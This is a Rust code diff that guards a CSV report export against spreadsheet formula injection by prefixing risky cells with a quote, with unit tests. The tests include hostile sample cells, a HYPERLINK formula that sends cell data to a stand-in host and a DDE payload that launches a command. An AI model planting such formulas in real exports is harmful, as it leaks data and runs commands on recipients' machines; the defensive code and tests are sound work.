@@ -75,6 +75,22 @@ async fn names(conn: &mut AsyncPgConnection, keys: &[GroupBy]) -> AppResult<Name
     Ok(names)
 }
 
+/// A name as a spreadsheet cell that stays text. A cell beginning with `=`, `+`, `-`, `@`
+/// (or their full-width forms, which some spreadsheets read alike), a tab or a carriage
+/// return would be read as a formula by Excel, LibreOffice or Google Sheets: such a cell
+/// gets a leading `'`, as the OWASP guidance on CSV injection says, and shows as written.
+/// Quotes and separators inside a cell are the CSV writer's to escape.
+fn text_cell(name: String) -> String {
+    const STARTS_A_FORMULA: &[char] = &[
+        '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+    ];
+    if name.starts_with(STARTS_A_FORMULA) {
+        format!("'{name}")
+    } else {
+        name
+    }
+}
+
 fn header(keys: &[GroupBy]) -> Vec<&'static str> {
     let mut columns = Vec::new();
     for key in keys {
@@ -106,31 +122,31 @@ fn record(keys: &[GroupBy], names: &Names, row: &ReportRow, currency: &str) -> V
         |d: Option<NaiveDate>, format: &str| d.map(|d| d.format(format).to_string()).unwrap_or_default();
     for key in keys {
         match key {
-            GroupBy::Client => fields.push(
+            GroupBy::Client => fields.push(text_cell(
                 row.client_id
                     .and_then(|id| names.clients.get(&id).cloned())
                     .unwrap_or_default(),
-            ),
+            )),
             GroupBy::Project => {
                 let (code, name) = row
                     .project_id
                     .and_then(|id| names.projects.get(&id).cloned())
                     .unwrap_or_default();
-                fields.push(code.unwrap_or_default());
-                fields.push(name);
+                fields.push(text_cell(code.unwrap_or_default()));
+                fields.push(text_cell(name));
             }
-            GroupBy::Task => fields.push(
+            GroupBy::Task => fields.push(text_cell(
                 row.task_id
                     .and_then(|id| names.tasks.get(&id).cloned())
                     .unwrap_or_default(),
-            ),
+            )),
             GroupBy::User => {
                 let (name, email) = row
                     .user_id
                     .and_then(|id| names.users.get(&id).cloned())
                     .unwrap_or_default();
-                fields.push(name);
-                fields.push(email);
+                fields.push(text_cell(name));
+                fields.push(text_cell(email));
             }
             GroupBy::Day => fields.push(text(row.day, "%Y-%m-%d")),
             GroupBy::Week => fields.push(text(row.week, "%Y-%m-%d")),
@@ -220,4 +236,27 @@ pub fn stream(
         }
     });
     rx
+}
+
+#[cfg(test)]
+mod tests {
+    use super::text_cell;
+
+    #[test]
+    fn cells_that_would_be_formulas_stay_text() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")",
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+1",
+            "-2+3",
+            "\t=1",
+            "\r=1",
+            "\u{FF1D}1+1",
+        ] {
+            assert_eq!(text_cell(formula.to_owned()), format!("'{formula}"));
+        }
+        for plain in ["Globex", "O'Brien & Sons", "", " =not at the start", "a=b"] {
+            assert_eq!(text_cell(plain.to_owned()), plain);
+        }
+    }
 }
